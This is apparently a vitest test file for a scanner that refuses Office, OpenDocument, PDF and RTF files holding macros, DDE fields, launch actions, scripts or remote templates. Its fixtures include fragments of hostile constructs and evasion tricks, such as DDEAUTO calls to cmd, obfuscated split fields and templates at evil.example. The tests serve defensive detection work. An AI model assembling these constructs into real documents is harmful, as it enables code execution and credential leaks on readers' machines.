import { deflateSync } from 'node:zlib';
import { describe, expect, test } from 'vitest';
import { documents, makeOle, makeOpenDocument, makeOpenXml } from './testing/make-documents.ts';
import { makePdf, makePowerPoint, makeWord } from './testing/make-programs.ts';
import { findingOf } from './testing/finding-of.ts';
import { makeZip } from './testing/make-zip.ts';
import type { ZipEntry } from './testing/make-zip.ts';

const media = 'application/vnd.openxmlformats-officedocument';
const docx = (...more: ZipEntry[]) => makeOpenXml(`${media}.wordprocessingml.document`, 'word/document.xml', more);
const odp = (...more: ZipEntry[]) => makeOpenDocument('application/vnd.oasis.opendocument.presentation', more);
const relation = (type: string, target: string, mode = 'External') => ({
  name: 'word/_rels/settings.xml.rels',
  text: `<Relationships><Relationship Id="r" Type="http://x/relationships/${type}" Target="${target}" TargetMode="${mode}"/></Relationships>`,
});
const part = (text: string | Buffer, name = 'word/header1.xml') => ({ name, text });
const rtf = (text: string) => Buffer.from(`{\\rtf1\\ansi ${text}}`);
const styles = (text: string) => ({ name: 'styles.xml', text });
const packed = (objects: string, more = '') => {
  const body = deflateSync(Buffer.from(`1 0 ${objects}`));
  return makePdf(`<</Type/ObjStm/N 1/First 4/Filter/FlateDecode${more}>>stream\n`, body, '\nendstream');
};

describe('macros and other programs in a .docx', () => {
  test.each([
    ['a template on another computer', relation('attachedTemplate', 'https://evil.example/t.dotm')],
    ['a template on a share', relation('attachedTemplate', 'file://server/t.dotm')],
    ['an object', relation('oleObject', 'embeddings/oleObject1.bin', 'Internal')],
    ['a linked object', relation('oleObject', 'mhtml:http://evil.example/x!x-usc:http://evil.example/x')],
    ['an ActiveX control', relation('control', 'activeX/activeX1.xml', 'Internal')],
    ['an included file of another format', relation('aFChunk', 'x.rtf', 'Internal')],
    ['a file', relation('package', 'embeddings/x.docm', 'Internal')],
    ['an external frame', relation('frame', 'https://evil.example')],
    ['a program with a harmless name', part('MZ\u0090', 'word/media/image1.png')],
    ['a deleted DDE field', part('<x:fldChar x:fldCharType="begin"/><w:delInstrText>DDE c</w:delInstrText>')],
    [
      'a DDE field around deleted text',
      part(
        '<x:fldChar x:fldCharType="begin"/><x:instrText>DD</x:instrText><x:delInstrText>x</x:delInstrText><x:instrText>E c</x:instrText>',
      ),
    ],
    ['a DDE field', part('<w:fldSimple w:instr=" DDEAUTO c:\\cmd"/>')],
    [
      'a DDE field in pieces',
      part(
        '<x:fldChar x:fldCharType="begin"/><x:instrText> DD</x:instrText><x:r/><x:instrText>&#69; "cmd"</x:instrText>',
      ),
    ],
    [
      'a DDE field around another',
      part(
        '<x:fldChar x:fldCharType="begin"/><x:fldChar x:fldCharType="begin"/><x:instrText>SET a ""</x:instrText><x:fldChar x:fldCharType="end"/><x:instrText>DDEAUTO c:\\\\cmd</x:instrText>',
      ),
    ],
    [
      'a template on another computer in a part with a name in capitals',
      { ...relation('attachedTemplate', 'https://evil.example/t.dotm'), name: 'word/_rels/settings.xml.RELS' },
    ],
    ['a DDE field in UTF-16', part(Buffer.from('\ufeff<w:fldSimple w:instr="DDE c"/>', 'utf16le'))],
    ['a click that starts a program', part('<a:hlinkClick action="ppaction://program"/>')],
    ['a picture on a share', relation('image', '\\\\host\\a.png')],
    ['a picture on a share with an encoded address', relation('image', 'file:%5c%5chost%5ca.png')],
    ['a picture on the web, which reveals the reader', relation('image', 'https://evil.example/a.png')],
    ['a film on a share', relation('video', 'file://host/a.mp4')],
    ['a drawn picture that names its source', part('<v:imagedata src="//host/a.png"/>')],
    ['an included text', part('<w:fldSimple w:instr="INCLUDETEXT c:\\secret.txt"/>')],
    ['a picture that a field fetches', part('<w:fldSimple w:instr=" includepicture &quot;http://evil/a&quot;"/>')],
    [
      'a field whose name other fields assemble',
      part(
        '<w:fldChar w:fldCharType="begin"/><w:instrText>D</w:instrText><w:fldSimple w:instr="QUOTE 68 69"/><w:fldChar w:fldCharType="separate"/>',
      ),
    ],
    ['a workbook with programs', part(makeZip([part('<ddeLink/>', 'xl/x.xml')]), 'word/embeddings/x.xlsx')],
    ['an invalid workbook', part('PK', 'word/embeddings/x.xlsx')],
  ])('a .docx with %s is refused', async (_what, entry) => {
    expect(await findingOf('docx', docx(entry))).toBe('programs');
  });

  test.each([
    ['a template on the author’s computer', relation('attachedTemplate', 'file:///C:\\Users\\Zo%C3%A9\\CV.dotx')],
    ['a link', relation('hyperlink', 'https://www.example.org/dde')],
    ['a picture on the author’s computer', relation('image', 'file:///C:\\Users\\Zo%C3%A9\\logo.png')],
    ['a film on the web', relation('video', 'https://www.example.org/embed/x')],
    [
      'a page number in a table of contents, and the picture of an e-mail',
      part(
        '<w:fldChar w:fldCharType="begin"/><w:instrText>TOC \\o </w:instrText><w:fldChar w:fldCharType="separate"/><w:fldChar w:fldCharType="begin"/><w:instrText> INCLUDEPICTURE "cid:image001.png@01" </w:instrText><w:fldChar w:fldCharType="end"/><w:fldChar w:fldCharType="end"/>',
      ),
    ],
    ['a chart with its figures', part(makeZip([part('<workbook/>', 'xl/workbook.xml')]), 'word/embeddings/x.xlsx')],
    ['a picture', part('\u0089PNG', 'word/media/image1.png')],
    [
      'fields',
      part('<w:fldSimple w:instr=" PAGE "/><w:instrText>HYPERLINK "x" DDE</w:instrText><w:t>DDE de Lyon</w:t>'),
    ],
  ])('a .docx with %s is accepted', async (_what, entry) => {
    expect(await findingOf('docx', docx(entry))).toBe('genuine');
  });

  test('a .docx with a content type for macros is refused, whatever the names of its parts', async () => {
    const types = `<Types><Override PartName="/x" ContentType="application/vnd.ms-office.vbaProject"/><Override ContentType="${media}.wordprocessingml.document.main+xml"/></Types>`;
    const bytes = makeZip([{ name: '[Content_Types].xml', text: types }, part('<x/>', 'word/document.xml')]);
    expect(await findingOf('docx', bytes)).toBe('macros');
  });

  test.each([
    ['in an unusual encoding', part('<?xml version="1.0" encoding="UTF-7"?><x/>')],
    ['with entities of its own', part('<!DOCTYPE x [<!ENTITY d "DDE">]><x/>')],
    ['larger than can be read', part(`<x>${' '.repeat(9 * 1024 * 1024)}</x>`)],
    ['nested endlessly', part('<x>'.repeat(10_000))],
    ['of countless elements', part(`<x>${'<y/>'.repeat(400_000)}</x>`)],
    ['that is invalid in its encoding', part(Buffer.from('<x a="\xe9"/>', 'latin1'))],
  ])('a .docx with a part %s cannot be checked', async (_what, entry) => {
    expect(await findingOf('docx', docx(entry))).toBe('locked');
  });
});

describe('macros and other programs in an OpenDocument', () => {
  test.each([
    ['an event', '<script:event-listener script:event-name="dom:load" xlink:href="vnd.sun.star.script:x"/>'],
    ['a link that runs a macro', '<text:a xlink:href="macro:///Standard.Module1.Main"/>'],
    ['a click that starts a program', '<presentation:event-listener presentation:action="execute"/>'],
    ['an object', '<draw:object-ole/>'],
    ['a DDE connection', '<text:dde-connection-decl/>'],
    ['a template from elsewhere', '<meta:template xlink:href="https://evil.example/t.ott"/>'],
    ['a picture from elsewhere', '<draw:image xlink:href="http://evil.example/a.png"/>'],
    ['a section from elsewhere', '<text:section-source xlink:href="//server/x.odt"/>'],
  ])('an OpenDocument with %s is refused', async (_what, text) => {
    expect(await findingOf('odp', odp(styles(text)))).toBe('programs');
  });

  test.each([
    ['a click to the next slide', '<presentation:event-listener presentation:action="next-page"/>'],
    ['a template on its computer', '<meta:template xlink:href="../templates/cv.ott"/>'],
    ['a link', '<text:a xlink:href="https://example.org"/><svg:title>Service: ventes</svg:title>'],
  ])('an OpenDocument with %s is accepted', async (_what, text) => {
    expect(await findingOf('odp', odp(styles(text)))).toBe('genuine');
  });
});

describe('programs in a PDF', () => {
  test.each([
    ['a script', makePdf('<</S/JavaScript/JS(app.alert\\(1\\))>>')],
    ['a script with an escaped name', makePdf('<</S/J#61vaScript>>')],
    ['a script after a comment and a string', makePdf('<</A(\\)>>)%>>\n/B[<6A> <</JS 5 0 R>>]>>')],
    ['a program start', makePdf('<</S/Launch/F(cmd.exe)>>')],
    ['imported data', makePdf('<</S/ImportData/F(x.fdf)>>')],
    ['a form that is sent', makePdf('<</S/SubmitForm/F(https://evil.example)>>')],
    ['a link to another file', makePdf('<</S/GoToR/F(\\\\\\\\host\\\\x.pdf)>>')],
    ['a link to an attached file', makePdf('<</S/GoToE>>')],
    ['an attached file', makePdf('<</EF<</F 5 0 R>>/F(cv.exe)>>')],
    ['an attached file with two names', makePdf('<</EF<</F 5 0 R>>/F(cv.xml)/F(cv.hta)>>')],
    ['an attached file whose name is in another object', makePdf('<</EF<</F 5 0 R>>/F 6 0 R>>')],
    ['a form with scripts', makePdf('<</AcroForm<</XFA 5 0 R>>>>')],
    ['a thread of another file', makePdf('<</OpenAction<</S/Thread/F(x.pdf)>>>>')],
    ['a thread of another file with its type elsewhere', makePdf('<</S 7 0 R/F(x.pdf)>>endobj 7 0 obj/Thread ')],
    ['a thread of another file in a damaged object', makePdf('<</S/Thread/F(x.pdf){>>')],
    ['a script after a stray character', makePdf('<< > /S /JavaScript /JS (app.alert) >>')],
    ['a program start in a damaged object', makePdf('<</Type/Action{/S/L#61unch/F(cmd.exe)>>')],
    ['a script in an object stream', packed('<</S/JavaScript>>')],
    ['a script in an object hidden in a stream', makePdf('<<>>stream\n7 0 obj<</JS(x)>>endobj\nendstream')],
  ])('a PDF with %s is refused', async (_what, bytes) => {
    expect(await findingOf('pdf', bytes)).toBe('programs');
  });

  test.each([
    ['a link', makePdf('<</S/URI/URI(https://example.org/JS /JavaScript)>>')],
    ['a first page', makePdf('<</OpenAction[3 0 R/Fit]/Names<</Dests 5 0 R>>>>')],
    [
      'its own data as XML, like Europass',
      makePdf('<</EF<</F 5 0 R>>/F(attachment.xml)/UF(\\376\\377\\000a\\000.\\000x\\000m\\000l)>>'),
    ],
    ['objects in a stream', packed('<</Type/Font>>')],
    ['a thread in the same file', makePdf('<</S/Thread/D 5 0 R>>endobj 5 0 obj<</Type/Thread/F 6 0 R>>')],
    ['words in a picture', makePdf('<<>>stream\n\u0001obj /JS\u0002 /JavaScript endstream')],
  ])('a PDF with %s is accepted', async (_what, bytes) => {
    expect(await findingOf('pdf', bytes)).toBe('genuine');
  });

  test.each([
    ['is encrypted', makePdf('<</Type/XRef/Encrypt 9 0 R>>')],
    ['has damaged object streams', makePdf('<</First 4/Filter/FlateDecode>>stream\nnothing')],
    ['hides its objects after a stray character', makePdf('<< ) /Type/ObjStm/N 1/First 4>>stream\nx')],
    ['packs objects in an unusual way', packed('<<>>', '/DecodeParms<</Predictor 12>>')],
    ['unpacks to more than four megabytes', packed(' '.repeat(5 * 1024 * 1024))],
    ['would take for ever', makePdf('obj (('.repeat(100_000))],
    ['holds countless values', makePdf(`[${'1 '.repeat(200_000)}]`)],
    ['holds countless objects', makePdf('obj<<>>'.repeat(100_000))],
    ['holds countless objects in a stream', packed(`[${'<</A/B>>'.repeat(100_000)}]`)],
    [
      'lists countless objects in a stream',
      makePdf('<</First 800000/Filter/FlateDecode>>stream\n', deflateSync('1 '.repeat(400_000))),
    ],
    ['is nested endlessly', makePdf('<</A'.repeat(10_000), 'obj<</A'.repeat(10_000))],
  ])('a PDF that %s cannot be checked', async (_what, bytes) => {
    expect(await findingOf('pdf', bytes)).toBe('locked');
  });
});

describe('programs in an .rtf', () => {
  test.each([
    ['an object', '{\\object\\objemb{\\*\\objdata 0105}}'],
    ['an object after raw bytes', '{\\bin8 \\objdata 0105}'],
    ['a DDE field', '{\\field{\\*\\fldinst {\\b DD}{E\\u65?\\\'55TO} "cmd"}}'],
    ['a template from elsewhere', '{\\*\\template https://evil.example/t.dot}'],
    ['a template on a share', '{\\*\\template \\\\\\\\server\\\\t.dot}'],
    ['an included text', '{\\field{\\*\\fldinst INCLUDETEXT "c:\\\\secret"}}'],
    ['a picture on a share', '{\\field{\\*\\fldinst INCLUDEPICTURE "\\\\\\\\\\\\\\\\host\\\\a.png" \\\\d}}'],
    ['a picture on the web', '{\\field{\\*\\fldinst INCLUDEPICTURE "http://evil.example/a"}}'],
    ['a shape with a picture on a share', '{\\sp{\\sn pibName}{\\sv \\\\\\\\host\\\\a.png}}'],
    ['a DDE field after blanks', `{\\field{\\*\\fldinst ${' '.repeat(5000)}DDEAUTO cmd}}`],
    ['a DDE field after empty groups', `{\\field{\\*\\fldinst ${'{}'.repeat(2100)}DDEAUTO cmd}}`],
    ['a DDE field after a group that readers skip', '{\\field{\\*\\fldinst {\\*\\foo zz}DDEAUTO cmd}}'],
    ['a DDE field after a bookmark', '{\\field{\\*\\fldinst {\\*\\bkmkstart zz}{\\fonttbl zz}DDEAUTO cmd}}'],
    ['a DDE field in a destination that readers know', '{\\field{\\*\\fldinst {\\*\\b DDE}AUTO cmd}}'],
    ['a DDE field after fallback characters', '{\\field{\\*\\fldinst \\uc3\\u68xyzDEAUTO cmd}}'],
    ['a DDE field after fallback characters set earlier', '\\uc3 {\\field{\\*\\fldinst \\u68xyzDEAUTO cmd}}'],
    ['a field name from another field', '{\\field{\\*\\fldinst D{\\field{\\*\\fldinst QUOTE 68 69}} "cmd"}}'],
  ])('an .rtf with %s is refused', async (_what, text) => {
    expect(await findingOf('rtf', rtf(text))).toBe('programs');
  });

  test.each([
    ['a template on its computer', '{\\*\\template C:\\\\Users\\\\Zo\\u233?\\\\Normal.dotm}'],
    ['a link', '{\\field{\\*\\fldinst HYPERLINK "https://www.example.org/dde"}}'],
    ['a picture copied from a web page', '{\\sp{\\sn pibName}{\\sv https://www.example.org/a.png}}'],
    [
      'a link as Word writes it',
      '\\uc1{\\field{\\*\\fldinst {\\b HYPERLINK "https://x/\\u233\\\'e9" }{{\\*\\datafield 00d0c9ea}}}{\\fldrslt x}}',
    ],
    ['the groups that Word always writes', '{\\*\\datastore 0105000002000000}'],
  ])('an .rtf with %s is accepted', async (_what, text) => {
    expect(await findingOf('rtf', rtf(text))).toBe('genuine');
  });
});

test.each(['fldinst REF x', 'template C:', 'hlsrc x'])(
  'an .rtf that ends within {\\*\\%s cannot be checked',
  async (group) => {
    expect(await findingOf('rtf', Buffer.from(`{\\rtf1 {\\*\\${group}`))).toBe('locked');
  },
);

describe('macros and other programs in Word and PowerPoint documents up to 2003', () => {
  test.each([
    ['a file in a package', makeOle(['WordDocument', '\u0001Ole10Native'])],
    ['an object', makeOle(['WordDocument', '\u0003ObjInfo'])],
    ['an equation', makeOle(['WordDocument', 'Equation Native'])],
    ['an equation in capitals', makeOle(['WordDocument', 'EQUATION NATIVE'])],
    ['a DDE field', Buffer.concat([documents.doc, Buffer.from('\u0013 DDEAUTO cmd')])],
    ['a DDE field with two bytes a character', Buffer.concat([documents.doc, Buffer.from('\u0013DDE c', 'utf16le')])],
  ])('a document with %s is refused', async (_what, bytes) => {
    expect(await findingOf('doc', bytes)).toBe('programs');
  });

  test.each([
    ['a DDE field in pieces', makeWord(['x\u0013 DD', 'EAUTO cmd'])],
    ['a DDE field whose name another field assembles', makeWord(['\u0013D', '\u0013QUOTE 68 69\u0015 cmd'])],
    ['a template on a share', makeWord(['x'], '\\\\host\\t.dot')],
    ['a template on the web', makeWord(['x'], 'https://evil.example/t.dot')],
    ['a picture on a share', makeWord(['\u0013INCLUDEPICTURE "\\\\\\\\host\\\\a.png"'])],
  ])('a document with %s is refused, wherever the tables of the file place the text', async (_what, bytes) => {
    expect(await findingOf('doc', bytes)).toBe('programs');
  });

  test('a document with a table of contents and a local template is accepted', async () => {
    const contents = makeWord(['\u0013 TOC \\o\u0014\u0013PAGEREF x\u00152\u0015', ' DDE'], 'C:\\Modèles\\CV.dot');
    expect(await findingOf('doc', contents)).toBe('genuine');
  });

  test('a presentation with an object or macros on any slide is refused', async () => {
    expect(await findingOf('ppt', makePowerPoint('0f00cc0f'))).toBe('programs');
    expect(await findingOf('ppt', makePowerPoint('000000', '0f00ee0f'))).toBe('programs');
    expect(await findingOf('ppt', makePowerPoint('0f00ff03'))).toBe('macros');
    expect(await findingOf('ppt', makePowerPoint('0f00ee03'))).toBe('genuine');
  });

  test('a presentation whose slides are missing or broken cannot be checked', async () => {
    const cut = Buffer.from(makePowerPoint());
    const circle = Buffer.from(makePowerPoint());
    circle.writeUInt32LE(2, 512 + 4 * 9);
    const names = ['PowerPoint Document'];
    const files = [
      makeOle(names),
      cut.subarray(0, -512),
      circle,
      makeOle(names, { [names.join('')]: Buffer.from('x') }),
    ];
    for (const bytes of files) expect(await findingOf('ppt', bytes)).toBe('locked');
  });

  test('an encrypted document cannot be checked', async () => {
    expect(await findingOf('doc', makeOle(['EncryptedPackage']))).toBe('locked');
  });
});
